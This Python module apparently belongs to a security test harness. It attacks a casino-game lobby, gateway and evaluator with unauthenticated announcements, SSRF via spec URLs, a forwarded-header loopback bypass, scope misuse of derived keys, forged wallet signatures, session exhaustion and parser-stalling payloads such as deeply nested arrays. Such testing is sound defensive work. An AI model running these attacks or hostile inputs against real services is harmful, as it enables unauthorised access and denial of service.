"""Attacks on the authority of services: announced tables, gateway, evaluator, and their keys."""

import asyncio
import secrets
from collections import Counter
from typing import Any

import orjson
from casino_agentkit.process.secret_keys import service_key
from casino_lobby_client.lobby_client import room_path

from casino.attack.attack_base import (
    Outcome,
    attack,
    by_admission,
    by_answer,
    not_applicable,
    refused,
    succeeded,
)
from casino.attack.attack_target import AttackTarget, Try
from casino.attack.binding_calls import HEADERS, RPC_PATH, Depth, Json, TriedReply, read_a2a
from casino.attack.callback_server import CallbackServer, agent_card
from casino.errors import NoAnswer

_FLEET_SKILL = "registerTable"
_SILENT = "the lobby drops the announcement when it is not renewed"
_SPELLINGS = 16
_MAX_VISITS = 5
"""Number of requests for its games that one process gets at most."""
_VERSION = "999.0.0"
_FRESH_S = 2.2
"""Seconds after which a lobby's cached list of games has expired."""


async def _announce(target: AttackTarget, request: Json) -> list[Try]:
    return await target.call_over_all(target.lobby, _FLEET_SKILL, request, target.tokens("table"))


@attack("fleet", "C6", "27-H5", breaks=_SILENT)
async def announce_table(target: AttackTarget) -> Outcome:
    """Announce a table to the lobby without its key, to get the next room."""
    canary = await target.new_canary()
    return by_admission(await _announce(target, {"agentCardUrl": canary.card_url}), _SILENT)


@attack("fleet", "C6", breaks=_SILENT)
async def claim_moved_table(target: AttackTarget) -> Outcome:
    """Announce without its key that a room's table has moved to the attacker's address."""
    if not target.tables:
        return not_applicable("no room has a table that may be attacked")
    tries: list[Try] = []
    for _table, room in target.tables[:1]:
        canary = await target.new_canary()
        for token in (None, "0" * 64):
            request = {
                "agentCardUrl": canary.card_url,
                "tableId": room.table_id,
                "epoch": room.epoch,
            }
            if token:
                request["roomToken"] = token
            tries += await _announce(target, request)
        await asyncio.sleep(0.3)
        calls = sum(visit.method == "POST" for visit in canary.visits)
        if calls:
            return succeeded(f"the lobby called the attacker's table {calls} times; {_SILENT}")
    if any(try_.reply.depth is Depth.ANSWERED for try_ in tries):
        return refused("the announcement was accepted, but the lobby kept its own table")
    return by_admission(tries)


@attack("fleet", "H11", breaks=_SILENT)
async def offer_newer_game(target: AttackTarget) -> Outcome:
    """Replace a game's rules by announcing a table with a newer version."""
    canary = await target.new_canary()
    canary.card = _card_with_game(canary, "kuhn_poker", "/games/kuhn_poker/spec")
    tries = await _announce(target, {"agentCardUrl": canary.card_url})
    games = (await _games(target, tries)).get("games", [])
    if any(game.get("specVersion") == _VERSION for game in games):
        return succeeded(f"the lobby now offers kuhn_poker {_VERSION}; {_SILENT}")
    if any(try_.reply.was_let_in for try_ in tries):
        return refused("the announcement was accepted, but its game is not offered")
    return by_admission(tries)


@attack("fleet", "H9", breaks=_SILENT)
async def multiply_requests(target: AttackTarget) -> Outcome:
    """Make the lobby send many requests to one address, announced under many names."""
    canary = await target.new_canary()
    host = canary.url.removeprefix("http://")
    names = [f"http://u{number}@{host}/.well-known/agent-card.json" for number in range(_SPELLINGS)]
    tries = await asyncio.gather(
        *(target.call(target.lobby, _FLEET_SKILL, {"agentCardUrl": name}) for name in names)
    )
    await _games(target, tries)
    if canary.visited() > _MAX_VISITS:
        return succeeded(f"one request to the lobby caused {canary.visited()} to one address")
    if any(try_.reply.was_let_in for try_ in tries):
        return refused(f"{_SPELLINGS} announcements caused {canary.visited()} requests")
    return by_admission(tries, is_faulty=True)


@attack("outgoing", "C7", breaks=_SILENT)
async def read_page_as_specification(target: AttackTarget) -> Outcome:
    """Make the lobby fetch another server's page as a game's specification, and publish it."""
    canary, inside = await target.new_canary(), await target.new_canary()
    page = f"# {inside.word}".encode()
    inside.pages["/internal"] = CallbackServer.page(page)
    canary.card = _card_with_game(canary, "mallory_game", inside.url + "/internal")
    tries = await _announce(target, {"agentCardUrl": canary.card_url})
    await _games(target, tries)
    try:
        answer = await target.traffic.send(
            "GET", f"{target.lobby.base}/api/games/mallory_game/spec"
        )
        body = answer.body
    except NoAnswer:
        body = b""
    if inside.word.encode() in body:
        return succeeded(f"the lobby published the page of another server; {_SILENT}")
    if inside.visits:
        return succeeded(f"the lobby fetched a page of another server; {_SILENT}")
    if any(try_.reply.was_let_in for try_ in tries):
        return refused("the announcement was accepted, but the page was not fetched")
    return by_admission(tries)


def _card_with_game(canary: CallbackServer, game_type: str, specification: str) -> dict[str, Any]:
    game = {
        "gameType": game_type,
        "name": "Mallory's",
        "category": "card",
        "gameModel": "turn_based",
        "players": {"min": 2, "max": 2},
        "version": _VERSION,
        "defaultTimeoutAction": "FOLD",
        "schemaFormat": "json-schema",
        "specification": specification,
    }
    return agent_card(canary.url, "CallbackServer", ("configureTable",), {"games": [game]})


async def _games(target: AttackTarget, tries: list[Try]) -> Json:
    """Return the lobby's list of games after an announcement has taken effect."""
    if any(try_.reply.was_let_in for try_ in tries):
        await asyncio.sleep(_FRESH_S)
    games = (await target.rest("GET", "/api/games")).data
    return games if isinstance(games, dict) else {}


_NO_KEY = "the operator's key is not known, from which services derive theirs"
_RESETS = 30
_ANSWERED_S = 5.0
_FORWARDED = {"x-forwarded-for": "203.0.113.7", "forwarded": "for=203.0.113.7"}
_HOSTILE = {
    "a long dotted key": ".".join("a" * 10_000),
    "an endless number": "variant = 'NT'\nactions = ['p1 cbr 1e99999999']",
    "nested arrays": "a = " + "[" * 9_000,
}
"""Hand histories that readers could take long for, or fail at, by name."""


def _bearer(key: str) -> dict[str, str]:
    return {"authorization": f"Bearer {key}"}


@attack("commands", "27-M4")
async def use_service_key(target: AttackTarget) -> Outcome:
    """Use the keys of services beyond their scopes: hidden cards, and the operator's rooms.

    The commands are such that even a lobby without scopes refuses them, unharmed.
    """
    rooms = [room for room in target.open_rooms if not room.is_invited]
    if not target.operator_key or not rooms:
        return not_applicable(_NO_KEY if rooms else "there is no open room of the operator")
    path, config = room_path(rooms[0].room_id), target.default_config
    number = rooms[0].hand_ids[0].rpartition("/")[2] if rooms[0].hand_ids else "1"
    hidden = (
        ("GET", f"{path}/stream?feed=commentator", None),
        ("GET", f"{path}/hands/{number}/record", None),
    )
    start = ("POST", f"{path}/start", {"overrides": {"smallBlind": 2_000_000, "bigBlind": 1}})
    # Not by gateway and dealer, whose room it may be.
    leave = ("DELETE", f"{path}/players/nobody-of-this-name", None)
    room = ("POST", "/v1/rooms", {"roomId": rooms[0].room_id, "config": config})
    publish = ("PUT", "/v1/matches/mallory", Json())
    beyond: dict[str, list[tuple[str, str, Json | None]]] = {
        "gateway": [start, publish],
        "evaluator": [start, leave, publish],
        "match": [start, leave, room],
        "dealer": [publish],
    }
    tries: list[Try] = []
    for service, commands in beyond.items():
        key = service_key(target.operator_key, service)
        for method, url, body in (*hidden, *commands):
            reply = await target.rest(method, url, body, _bearer(key))
            tries.append(Try(target.lobby, f"{method} {url}", f"the {service}'s key", reply))
    return by_admission(tries)


@attack("commands", "27-H2", needs="gateway")
async def take_invited_seat(target: AttackTarget) -> Outcome:
    """Take a seat at the gateway, without a key, in rooms that are open to invited players only."""
    gateway = target.services["gateway"]
    invited = [room for room in target.open_rooms if room.is_invited]
    if not invited:
        return not_applicable("no room has invited seats")
    tries: list[Try] = []
    for room in invited:
        seat = {"match_id": room.room_id, "name": "Mallory", "type": "human"}
        reply = await target.rest("POST", "/bgp/seats", seat, at=gateway)
        if reply.depth is Depth.ANSWERED and isinstance(reply.data, dict):
            token = _bearer(str(reply.data.get("token")))
            await target.rest("DELETE", "/bgp/seats", headers=token, at=gateway)
        tries.append(Try(gateway, "the Boardgame Protocol", "no token", reply))
    return by_answer(tries)


@attack("seats", "27-M1", needs="gateway")
async def bind_foreign_wallet(target: AttackTarget) -> Outcome:
    """Restrict a wallet as a guest, without its signature, so that its owner cannot play."""
    gateway = target.services["gateway"]
    guest = await target.rest("POST", "/api/auth/guest", {}, at=gateway)
    if guest.depth is not Depth.ANSWERED or not isinstance(guest.data, dict):
        return not_applicable(f"the gateway signs no guest in: {guest.reason}")
    token = _bearer(str(guest.data.get("token") or guest.data.get("accessToken")))
    wallet = "0x" + secrets.token_hex(20)
    link = {"walletAddress": wallet, "allowedGames": ["no_game"], "maxStakePerRound": 0}
    forged = {"signature": "0x" + secrets.token_hex(65), "nonce": secrets.token_hex(16)}
    tries: list[Try] = []
    for body in (link, {**link, **forged}, {"walletAddress": wallet, "permissions": link}):
        reply = await target.rest("POST", "/api/auth/link-account", body, token, at=gateway)
        if reply.depth is Depth.ANSWERED and isinstance(reply.data, dict):
            path = f"/api/auth/link-account/{reply.data.get('linkId')}"
            await target.rest("DELETE", path, headers=token, at=gateway)
        tries.append(Try(gateway, "REST", "a guest's token", reply))
    return by_answer(tries)


@attack("resources", "27-H3", needs="evaluator")
async def take_all_tables(target: AttackTarget) -> Outcome:
    """Begin many sessions with one anonymous key, so that the operator can open no room."""
    if not target.operator_key:
        return not_applicable(_NO_KEY)
    evaluator = target.services["evaluator"]
    made = await target.rest("GET", "/api/games/anonkey", at=evaluator)
    key = {"x-api-key": str((made.data or {}).get("api_key"))}
    games = (await target.rest("GET", "/api/games", headers=key, at=evaluator)).data
    opened = await target.rest("POST", "/api/scorecard/open", {}, key, at=evaluator)
    card_id = str((opened.data or {}).get("card_id"))
    game_id = games[0]["game_id"] if isinstance(games, list) and games else "kuhn"
    begin = {"game_id": game_id, "card_id": card_id}
    resets = [
        asyncio.create_task(target.rest("POST", "/api/cmd/RESET", begin, key, at=evaluator))
        for _ in range(_RESETS)
    ]
    await asyncio.sleep(1.0)
    clock = asyncio.get_running_loop().time
    began, room_id = clock(), f"mallory-{secrets.token_hex(4)}"
    room = {"roomId": room_id, "config": target.default_config}
    reply = await target.rest("POST", "/v1/rooms", room, as_operator=True)
    took_s = clock() - began
    begun = Counter(reset.depth for reset in await asyncio.gather(*resets))[Depth.ANSWERED]
    await target.rest("POST", "/api/scorecard/close", {"card_id": card_id}, key, at=evaluator)
    if reply.depth is Depth.ANSWERED:
        await target.rest("DELETE", room_path(room_id), as_operator=True)
    evidence = f"with {begun} of {_RESETS} sessions of one key begun, the operator's room"
    if reply.depth is Depth.ANSWERED and took_s <= _ANSWERED_S:
        return refused(f"{evidence} was open after {took_s:.1f} s")
    return succeeded(f"{evidence} was not open after {took_s:.1f} s: {reply.reason}")


@attack("outgoing", "27-H4", needs="evaluator")
async def pass_for_loopback(target: AttackTarget) -> Outcome:
    """Have the evaluator assess agents, as a proxy's client without a key, and read its tasks."""
    evaluator, canary = target.services["evaluator"], await target.new_canary()
    participants = dict.fromkeys(("alice", "bob"), canary.url)
    text = orjson.dumps({"participants": participants, "config": {"levels": 1}}).decode()
    message = {"messageId": secrets.token_hex(8), "role": "ROLE_USER", "parts": [{"text": text}]}
    answers: list[bytes] = []
    tries: list[Try] = []
    for method, params in (
        ("SendMessage", {"message": message, "configuration": {"returnImmediately": True}}),
        ("ListTasks", {}),
    ):
        call: Json = {"jsonrpc": "2.0", "id": "1", "method": method, "params": params}
        answer = await target.traffic.send(
            "POST",
            evaluator.url(RPC_PATH),
            headers={**HEADERS, **_FORWARDED},
            content=orjson.dumps(call),
        )
        answers.append(answer.body)
        reply = TriedReply(Depth.ANSWERED) if b'"tasks":[{' in answer.body else read_a2a(answer)
        tries.append(Try(evaluator, method, "no token", reply))
    if canary.visits:
        return succeeded(f"the evaluator sent {canary.visited()} requests without a key")
    if b'"task":' in answers[0] or b'"tasks":[{' in answers[1]:
        return succeeded("a proxy's client got the evaluator's tasks")
    return refused("neither an assessment nor a task was given to a proxy's client")


@attack("input", "27-M2", "27-M5", breaks="the published match, which cannot be removed")
async def publish_hostile_hand(target: AttackTarget) -> Outcome:
    """Publish a match, as the operator, whose hand histories cannot be read."""
    if not target.operator_key:
        return not_applicable(_NO_KEY)
    tries: list[Try] = []
    for name, history in _HOSTILE.items():
        put = ("PUT", "/v1/matches/mallory", _match(history), {"if-match": "*"})
        reply = await target.rest(*put, as_operator=True)
        tries.append(Try(target.lobby, f"PUT with {name}", "the operator's key", reply))
    return by_answer(tries, "each reader has it parsed again", is_faulty=True)


def _match(history: str) -> Json:
    names, digest = ("ada", "bob"), f"sha256:{secrets.token_hex(32)}"
    empty = {"hands": 1, "net": 0, "estimates": [], "decisions": 0, "outcomes": {}}
    hand = {"deck": 0, "seating": 0, "pot": 1, "players": names, "net": {}, "kind": "biggest"}
    return {
        "name": "mallory",
        "plan": {},
        "planDigest": digest,
        "digest": digest,
        "decks": 1,
        "hands": 1,
        "isComplete": True,
        "bigBlind": 2,
        "players": [{"name": name, "player": name, **empty} for name in names],
        "pairs": [],
        "notableHands": [{**hand, "history": history}],
    }
